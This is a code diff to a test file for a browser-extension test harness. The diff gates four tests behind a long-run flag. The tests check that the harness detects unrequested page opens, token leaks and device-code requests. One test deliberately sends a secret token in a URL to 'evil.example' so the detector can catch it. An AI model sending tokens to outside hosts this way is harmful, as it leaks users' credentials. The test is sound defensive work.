@@ -3,6 +3,7 @@ import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { type Simulator, startSimulator } from '../simulator/simulator';
 import { type Burgee, launchBurgee } from './browser';
 import { startUrl } from './console';
+import { isLong } from './how-long';
 import { openLauncher, tellWorker, wakeWorker } from './launcher';
 
 const api = 'https://portal.sso.eu-west-1.amazonaws.com';
@@ -37,7 +38,7 @@ describe('closing a browser fails where Burgee', () => {
     await expect(burgee.close()).rejects.toThrow(`opened ${startUrl}/ without a click`);
   });
 
-  test('opened a second one for one click', async () => {
+  test.runIf(isLong)('opened a second one for one click', async () => {
     const options = await burgee.openPage('options.html');
     await options.getByRole('button', { name: 'Sign out' }).click();
     const opened = burgee.context.waitForEvent('page');
@@ -50,7 +51,7 @@ describe('closing a browser fails where Burgee', () => {
     );
   });
 
-  test('opened one for a click that was not on a page of its own', async () => {
+  test.runIf(isLong)('opened one for a click that was not on a page of its own', async () => {
     await tellWorker(await openLauncher(burgee), 'openPortal', { portal: startUrl });
     await expect.poll(() => burgee.context.pages().filter((page) => page.url().startsWith(startUrl)).length).toBe(2);
     await expect(burgee.close()).rejects.toThrow(`opened ${startUrl}/ without a click`);
@@ -65,13 +66,13 @@ describe('closing a browser fails where Burgee', () => {
     );
   });
 
-  test('told a token to another host', async () => {
+  test.runIf(isLong)('told a token to another host', async () => {
     burgee.personActs();
     await open(`https://evil.example/?token=${token()}`);
     await expect(burgee.close()).rejects.toThrow('sent a secret to evil.example/');
   });
 
-  test('asked for a device code', async () => {
+  test.runIf(isLong)('asked for a device code', async () => {
     const url = 'https://oidc.eu-west-1.amazonaws.com/device_authorization';
     await (await burgee.worker()).evaluate((address) => fetch(address, { method: 'POST', body: '{}' }), url);
     await expect(burgee.close()).rejects.toThrow('asked oidc.eu-west-1.amazonaws.com for a device code');
